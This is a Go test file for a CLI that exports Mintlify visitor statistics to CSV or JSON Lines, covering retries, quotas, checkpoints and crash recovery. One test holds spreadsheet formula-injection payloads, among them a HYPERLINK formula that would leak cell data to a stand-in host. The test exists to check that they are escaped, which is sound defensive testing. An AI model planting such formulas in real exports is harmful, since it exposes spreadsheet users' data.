package main

import (
	"bytes"
	"cmp"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	mintlify "github.com/mintlify-community/mintlify-go"
	"github.com/mintlify-community/mintlify-go/examples/internal/demo"
	"github.com/mintlify-community/mintlify-go/mintlifytest"
)

// program runs the program in a folder of its own, in a bubble, where it waits for
// nothing, and keeps what it prints.
type program struct {
	t         *testing.T
	dir       string
	transport http.RoundTripper
	messages  string
	stdout    string
}

func newProgram(t *testing.T) *program {
	for _, name := range []string{"MINTLIFY_API_KEY", "MINTLIFY_PROJECT_ID", "MINTLIFY_BASE_URL"} {
		t.Setenv(name, "")
	}
	return &program{t: t, dir: t.TempDir()}
}

// useService has the program talk to svc as to the service.
func (p *program) useService(svc *mintlifytest.Service) {
	p.transport = svc
	p.t.Setenv("MINTLIFY_API_KEY", mintlifytest.APIKey)
	p.t.Setenv("MINTLIFY_PROJECT_ID", mintlifytest.ProjectID)
}

// run returns the exit code.
func (p *program) run(ctx context.Context, args ...string) int {
	p.t.Helper()
	stdout, err := os.Create(filepath.Join(p.dir, "stdout"))
	require.NoError(p.t, err)
	defer stdout.Close()
	stderr, err := os.Create(filepath.Join(p.dir, "stderr"))
	require.NoError(p.t, err)
	defer stderr.Close()

	code := run(ctx, args, stdout, stderr, p.transport)
	p.stdout = p.read("stdout")
	p.messages = p.read("stderr")
	return code
}

func (p *program) path(name string) string { return filepath.Join(p.dir, name) }

func (p *program) read(name string) string {
	p.t.Helper()
	text, err := os.ReadFile(p.path(name))
	require.NoError(p.t, err)
	return string(text)
}

// requireAll asserts that a CSV file holds the n rows of the fake, each once, in order.
func requireAll(t *testing.T, text string, n int) {
	t.Helper()
	table, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(t, err)
	require.Len(t, table, n+1)
	require.Equal(t, []string{"path", "human", "ai", "total"}, table[0])
	for i, row := range demo.Visitors(n) {
		want := []string{row.Path, fmt.Sprint(row.Human), fmt.Sprint(row.AI), fmt.Sprint(row.Total)}
		require.Equal(t, want, table[i+1])
	}
}

func TestExportToAFile(t *testing.T) {
	p := newProgram(t)
	args := []string{"-demo", "-demo-rows", "1001", "-o", p.path("v.csv")}
	require.Equal(t, exitOK, p.run(t.Context(), args...), p.messages)
	requireAll(t, p.read("v.csv"), 1001)
	assert.Contains(t, p.messages, "using a fake")
	assert.Contains(t, p.messages, "1001 rows, 5 requests")
	today := mintlify.DayOf(time.Now().UTC())
	assert.Contains(t, p.messages, fmt.Sprintf("Dates: from %v to before %v.", today.AddDays(-30), today))
	assert.Empty(t, p.stdout)

	require.Equal(t, exitOK, p.run(t.Context(), args...))
	assert.Contains(t, p.messages, "complete already")
	requireAll(t, p.read("v.csv"), 1001)
}

func TestRequestsAreCountedWithTheirRetries(t *testing.T) {
	p := newProgram(t)
	synctest.Test(t, func(t *testing.T) {
		svc := mintlifytest.NewService()
		p.useService(svc)
		svc.SetVisitors(demo.Visitors(5))
		svc.FailNext(mintlify.OpGetVisitors, 2, mintlifytest.Fault{Status: 503})
		require.Equal(t, exitOK, p.run(t.Context(), "-limit", "3"), p.messages)
		assert.Contains(t, p.messages, "Using the service, project test-project.")
		assert.Contains(t, p.messages, "5 rows, 4 requests")
	})
}

func TestProgressInALogIsALineAMinute(t *testing.T) {
	p := newProgram(t)
	synctest.Test(t, func(t *testing.T) {
		svc := mintlifytest.NewService()
		p.useService(svc)
		svc.SetVisitors(demo.Visitors(100))
		svc.FailNext(mintlify.OpGetVisitors, 10, mintlifytest.Fault{Delay: 20 * time.Second})
		require.Equal(t, exitOK, p.run(t.Context(), "-limit", "10"), p.messages)
		assert.Regexp(t, `(?s)\n30 rows.*\n60 rows.*\n90 rows.*\n100 rows`, p.messages)
		assert.Equal(t, 4, strings.Count(p.messages, "rows per second"))
	})
}

func TestExportToStdout(t *testing.T) {
	p := newProgram(t)
	require.Equal(t, exitOK, p.run(t.Context(), "-demo", "-demo-rows", "300"))
	requireAll(t, p.stdout, 300)

	require.Equal(t, exitOK, p.run(t.Context(), "-demo", "-demo-rows", "0"))
	assert.Equal(t, "path,human,ai,total\n", p.stdout, "a header even so")
	require.Equal(t, exitOK, p.run(t.Context(), "-demo", "-demo-rows", "0", "-format", "jsonl"))
	assert.Empty(t, p.stdout)

	entries, err := os.ReadDir(p.dir)
	require.NoError(t, err)
	assert.Len(t, entries, 2, "no checkpoint")
}

func TestOddPathsSurvive(t *testing.T) {
	p := newProgram(t)
	svc := mintlifytest.NewService()
	p.useService(svc)
	rows := []mintlify.Visitor{
		{Path: `/a,"b"`, Human: 1},
		{Path: "/line\nbreak", AI: 2},
		{Path: "/<日本>&", Total: 3},
		{},
	}
	svc.SetVisitors(rows)

	require.Equal(t, exitOK, p.run(t.Context(), "-o", p.path("v.csv")), p.messages)
	table, err := csv.NewReader(strings.NewReader(p.read("v.csv"))).ReadAll()
	require.NoError(t, err)
	require.Len(t, table, 5)

	require.Equal(t, exitOK, p.run(t.Context(), "-o", p.path("v.JSONL"), "-limit", "1"))
	var read []mintlify.Visitor
	for line := range strings.Lines(p.read("v.JSONL")) {
		var row mintlify.Visitor
		require.NoError(t, json.Unmarshal([]byte(line), &row))
		read = append(read, row)
	}
	assert.Equal(t, rows, read)
	for i, row := range rows {
		assert.Equal(t, row.Path, table[i+1][0])
	}
}

// Paths come from strangers.
func TestNoSpreadsheetRunsAPath(t *testing.T) {
	p := newProgram(t)
	svc := mintlifytest.NewService()
	p.useService(svc)
	formula := `=HYPERLINK("https://example.com?"&A1)`
	rows := []mintlify.Visitor{
		{Path: formula}, {Path: "+1"}, {Path: "-1"}, {Path: "@SUM(1)"}, {Path: "\t=1"}, {Path: "\r=1"},
		{Path: "/a=1"}, {Path: "'=1"}, {Path: ""},
	}
	svc.SetVisitors(rows)

	require.Equal(t, exitOK, p.run(t.Context(), "-format", "csv"), p.messages)
	table, err := csv.NewReader(strings.NewReader(p.stdout)).ReadAll()
	require.NoError(t, err)
	var paths []string
	for _, row := range table[1:] {
		paths = append(paths, row[0])
	}
	assert.Equal(t, []string{
		"'" + formula, "'+1", "'-1", "'@SUM(1)", "'\t=1", "'\r=1",
		"/a=1", "'=1", "",
	}, paths)

	require.Equal(t, exitOK, p.run(t.Context(), "-format", "jsonl"), p.messages)
	for i, line := range strings.Split(strings.TrimSuffix(p.stdout, "\n"), "\n") {
		var row mintlify.Visitor
		require.NoError(t, json.Unmarshal([]byte(line), &row))
		assert.Equal(t, rows[i], row, "JSON Lines need no escape")
	}
}

func TestDatesAndLimitAreSentAsGiven(t *testing.T) {
	p := newProgram(t)
	svc := mintlifytest.NewService()
	p.useService(svc)
	args := []string{"-from", "2026-01-01T00:00:00+01:00", "-to", "2026-02-01T00:00:00Z", "-limit", "7"}
	require.Equal(t, exitOK, p.run(t.Context(), args...), p.messages)
	query := svc.Requests()[0].Query
	assert.Equal(t, "2025-12-31T23:00:00Z", query.Get("dateFrom"))
	assert.Equal(t, "2026-02-01T00:00:00Z", query.Get("dateTo"))
	assert.Equal(t, "7", query.Get("limit"))
}

func TestWrongUsageTouchesNoFile(t *testing.T) {
	for name, args := range map[string][]string{
		"argument":          {"x"},
		"unknown flag":      {"-x"},
		"format":            {"-format", "xml"},
		"from alone":        {"-from", "2026-01-01"},
		"no date":           {"-from", "soon", "-to", "2026-01-01"},
		"limit":             {"-limit", "251"},
		"negative rows":     {"-demo", "-demo-rows", "-1"},
		"no key":            {},
		"empty format":      {"-demo", "-format", ""},
		"empty output":      {"-demo", "-o", ""},
		"empty date":        {"-demo", "-from", "", "-to", "2026-01-01"},
		"dates reversed":    {"-demo", "-from", "2026-02-01", "-to", "2026-01-01"},
		"nowhere to put it": {"-demo", "-o", "/no/such/folder/v.csv"},
	} {
		t.Run(name, func(t *testing.T) {
			p := newProgram(t)
			code := p.run(t.Context(), append([]string{"-o", p.path("v.csv")}, args...)...)
			assert.Equal(t, exitUsage, code)
			assert.NotEmpty(t, p.messages)
			assert.NotContains(t, p.messages, "rows per second", "nothing that looks like success")
			assert.NotContains(t, p.messages, "to resume.")
			if name == "nowhere to put it" {
				assert.Contains(t, p.messages, "/no/such/folder/v.csv: stat /no/such/folder:")
			}
			assert.NoFileExists(t, p.path("v.csv"))
			assert.NoFileExists(t, p.path("v.csv.checkpoint"))
		})
	}

	p := newProgram(t)
	t.Setenv("MINTLIFY_API_KEY", "mint_abc")
	assert.Equal(t, exitUsage, p.run(t.Context()))
	assert.Contains(t, p.messages, "MINTLIFY_PROJECT_ID is not set")
}

func TestCheckpointOfAnotherExportIsRefused(t *testing.T) {
	p := newProgram(t)
	svc := mintlifytest.NewService()
	p.useService(svc)
	svc.SetVisitors(demo.Visitors(20))
	args := func(more ...string) []string {
		all := []string{"-o", p.path("v.csv"), "-from", "2026-01-01", "-to", "2026-02-01", "-limit", "10"}
		return append(all, more...)
	}
	svc.SucceedNext(mintlify.OpGetVisitors, 1)
	svc.FailNext(mintlify.OpGetVisitors, 1, mintlifytest.Fault{Status: 404})
	require.Equal(t, exitFailed, p.run(t.Context(), args()...))
	before := p.read("v.csv")

	for field, tc := range map[string]struct {
		args             []string
		project, baseURL string
	}{
		"dateFrom": {args: []string{"-from", "2026-01-02"}},
		"dateTo":   {args: []string{"-to", "2026-02-02"}},
		"limit":    {args: []string{"-limit", "11"}},
		"format":   {args: []string{"-format", "jsonl"}},
		"project":  {project: "other"},
		"baseURL":  {baseURL: "https://other.example.com"},
	} {
		t.Setenv("MINTLIFY_PROJECT_ID", cmp.Or(tc.project, mintlifytest.ProjectID))
		t.Setenv("MINTLIFY_BASE_URL", tc.baseURL)
		assert.Equal(t, exitUsage, p.run(t.Context(), args(tc.args...)...), field)
		assert.Contains(t, p.messages, field+" is ")
		assert.Equal(t, before, p.read("v.csv"))
	}

	p.useService(svc)
	t.Setenv("MINTLIFY_BASE_URL", "")
	require.Equal(t, exitOK, p.run(t.Context(), args()...), p.messages)
	requireAll(t, p.read("v.csv"), 20)
	assert.NotContains(t, p.read("v.csv.checkpoint"), "mint_")
}

func TestFilesThatDoNotFitTogetherAreRefused(t *testing.T) {
	const ofThreeBytes = `{"dateFrom":"2026-01-01","dateTo":"2026-02-01","limit":250,"project":"test-project",` +
		`"baseURL":"fake with 5 rows","format":"csv","nextOffset":1,"bytes":3}`
	for name, files := range map[string]map[string]string{
		"output alone":        {"v.csv": "mine"},
		"broken checkpoint":   {"v.csv": "mine", "v.csv.checkpoint": "{"},
		"negative checkpoint": {"v.csv": "mine", "v.csv.checkpoint": `{"bytes":-1}`},
		"output too short":    {"v.csv": "mi", "v.csv.checkpoint": ofThreeBytes},
		"output gone":         {"v.csv.checkpoint": ofThreeBytes},
	} {
		t.Run(name, func(t *testing.T) {
			p := newProgram(t)
			for file, text := range files {
				require.NoError(t, os.WriteFile(p.path(file), []byte(text), 0o600))
			}
			code := p.run(t.Context(), "-o", p.path("v.csv"),
				"-demo", "-demo-rows", "5", "-from", "2026-01-01", "-to", "2026-02-01")
			assert.Equal(t, exitUsage, code, p.messages)
			for file, text := range files {
				assert.Equal(t, text, p.read(file))
			}
		})
	}
}

func TestDefaultDatesAreThoseOfTheExportToResume(t *testing.T) {
	p := newProgram(t)
	svc := mintlifytest.NewService()
	p.useService(svc)
	svc.SetVisitors(demo.Visitors(20))
	svc.SucceedNext(mintlify.OpGetVisitors, 1)
	svc.FailNext(mintlify.OpGetVisitors, 1, mintlifytest.Fault{Status: 404})
	code := p.run(t.Context(), "-o", p.path("v.csv"), "-limit", "10", "-from", "2026-01-01", "-to", "2026-02-01")
	require.Equal(t, exitFailed, code)

	require.Equal(t, exitOK, p.run(t.Context(), "-o", p.path("v.csv"), "-limit", "10"), p.messages)
	assert.Contains(t, p.messages, "Dates: from 2026-01-01 to before 2026-02-01.")
	assert.Contains(t, p.messages, "Resuming at row 10.")
	requireAll(t, p.read("v.csv"), 20)
}

func TestQuotaStopsAnExportAndALaterRunResumesIt(t *testing.T) {
	p := newProgram(t)
	synctest.Test(t, func(t *testing.T) {
		svc := mintlifytest.NewService()
		p.useService(svc)
		svc.SetVisitors(demo.Visitors(2550))
		svc.EnforceQuotas()
		args := []string{"-o", p.path("v.csv"), "-limit", "10"}
		for range 2 {
			require.Equal(t, exitQuota, p.run(t.Context(), args...), p.messages)
			assert.Contains(t, p.messages, "try again in 1h0m0s")
			assert.Contains(t, p.messages, "Run the same command")
			time.Sleep(time.Hour)
		}
		require.Equal(t, exitOK, p.run(t.Context(), args...))
		requireAll(t, p.read("v.csv"), 2550)
	})
}

func TestQuotaWithRetryAfter(t *testing.T) {
	p := newProgram(t)
	synctest.Test(t, func(t *testing.T) {
		svc := mintlifytest.NewService()
		p.useService(svc)
		svc.SetVisitors(demo.Visitors(5))
		svc.FailNext(mintlify.OpGetVisitors, 4, mintlifytest.Fault{Status: 429})
		require.Equal(t, exitQuota, p.run(t.Context(), "-o", p.path("v.csv")))
		assert.Contains(t, p.messages, "try again in 10m0s")

		limited := mintlifytest.Fault{Status: 429, Header: http.Header{"Retry-After": {"720"}}}
		svc.FailNext(mintlify.OpGetVisitors, 1, limited)
		require.Equal(t, exitQuota, p.run(t.Context(), "-o", p.path("v.csv")))
		assert.Contains(t, p.messages, "try again in 12m0s, at 20")
		assert.NoFileExists(t, p.path("v.csv"))

		start := time.Now()
		svc.FailNext(mintlify.OpGetVisitors, 2, limited)
		require.Equal(t, exitOK, p.run(t.Context(), "-o", p.path("v.csv"), "-wait"))
		assert.Equal(t, 24*time.Minute, time.Since(start))
		requireAll(t, p.read("v.csv"), 5)
	})
}

func TestWaitForTheQuota(t *testing.T) {
	p := newProgram(t)
	synctest.Test(t, func(t *testing.T) {
		svc := mintlifytest.NewService()
		p.useService(svc)
		svc.SetVisitors(demo.Visitors(2550))
		svc.EnforceQuotas()
		require.Equal(t, exitOK, p.run(t.Context(), "-limit", "10", "-wait"), p.messages)
		requireAll(t, p.stdout, 2550)
		assert.Contains(t, p.messages, "waiting for 1h0m0s")

		svc.FailNext(mintlify.OpGetVisitors, 10, mintlifytest.Fault{Status: 429})
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		start := time.Now()
		assert.Equal(t, exitInterrupted, p.run(ctx, "-wait"))
		assert.Equal(t, time.Minute, time.Since(start), "at once")
		assert.Contains(t, p.messages, "waiting for 10m0s", "if the service does not say")
	})
}

func TestInterruptedExportResumes(t *testing.T) {
	p := newProgram(t)
	synctest.Test(t, func(t *testing.T) {
		svc := mintlifytest.NewService()
		p.useService(svc)
		svc.SetVisitors(demo.Visitors(100))
		svc.FailNext(mintlify.OpGetVisitors, 100, mintlifytest.Fault{Delay: time.Second})
		for range 3 {
			ctx, cancel := context.WithTimeout(t.Context(), 2500*time.Millisecond)
			require.Equal(t, exitInterrupted, p.run(ctx, "-o", p.path("v.csv"), "-limit", "10"), p.messages)
			cancel()
			assert.Contains(t, p.messages, "Interrupted. Run the same command to resume.")
		}
		require.Equal(t, exitOK, p.run(t.Context(), "-o", p.path("v.csv"), "-limit", "10"))
		requireAll(t, p.read("v.csv"), 100)
	})
}

// A real process is killed at random moments.
func TestKilledExportYieldsEachRowOnce(t *testing.T) {
	const rows = 20_000
	kills := 5
	if os.Getenv("MINTLIFY_LONG") == "" {
		t.Logf("%d kills; MINTLIFY_LONG=1 makes 50", kills)
	} else {
		kills = 50
	}
	p := newProgram(t)
	binary := p.path("visitors-export")
	build, err := exec.Command("go", "build", "-o", binary, ".").CombinedOutput()
	require.NoError(t, err, "%s", build)

	partial := 0 // kills that left an export midway
	for killed, export := 0, 0; killed < kills; export++ {
		out := p.path(fmt.Sprintf("v%d.csv", export))
		for killExport(t, binary, out, rows, killed < kills) {
			killed++
			saved, found, err := loadCheckpoint(checkpointPath(out))
			require.NoError(t, err)
			if found && saved.NextOffset > 0 {
				partial++
			}
		}

		text, err := os.ReadFile(out)
		require.NoError(t, err)
		requireAll(t, string(text), rows)
	}

	t.Logf("%d of %d kills left an export midway", partial, kills)
	if kills == 50 {
		assert.NotZero(t, partial)
	}
}

// killExport runs the program, and kills it after up to 80 ms if it is told to. It reports
// whether that ended the export.
func killExport(t *testing.T, binary, out string, rows int, kill bool) bool {
	command := exec.Command(binary, "-o", out, "-demo", "-demo-rows", fmt.Sprint(rows),
		"-from", "2026-01-01", "-to", "2026-02-01")
	var messages bytes.Buffer
	command.Stderr = &messages
	require.NoError(t, command.Start())
	if kill {
		moment := time.Duration(rand.Int64N(int64(80 * time.Millisecond)))
		time.AfterFunc(moment, func() { command.Process.Kill() })
	}

	err := command.Wait()
	if command.ProcessState.ExitCode() == -1 { // by a signal
		return true
	}
	require.NoError(t, err, "%s", &messages)
	return false
}

func TestWhatACrashHasAppendedIsTruncated(t *testing.T) {
	p := newProgram(t)
	svc := mintlifytest.NewService()
	p.useService(svc)
	svc.SetVisitors(demo.Visitors(20))
	svc.SucceedNext(mintlify.OpGetVisitors, 1)
	svc.FailNext(mintlify.OpGetVisitors, 1, mintlifytest.Fault{Status: 404})
	require.Equal(t, exitFailed, p.run(t.Context(), "-o", p.path("v.csv"), "-limit", "10"))

	file, err := os.OpenFile(p.path("v.csv"), os.O_APPEND|os.O_WRONLY, 0)
	require.NoError(t, err)
	_, err = file.WriteString("/guides/page-11,1,2,3\n/guid")
	require.NoError(t, err)
	require.NoError(t, file.Close())

	require.Equal(t, exitOK, p.run(t.Context(), "-o", p.path("v.csv"), "-limit", "10"))
	requireAll(t, p.read("v.csv"), 20)
}
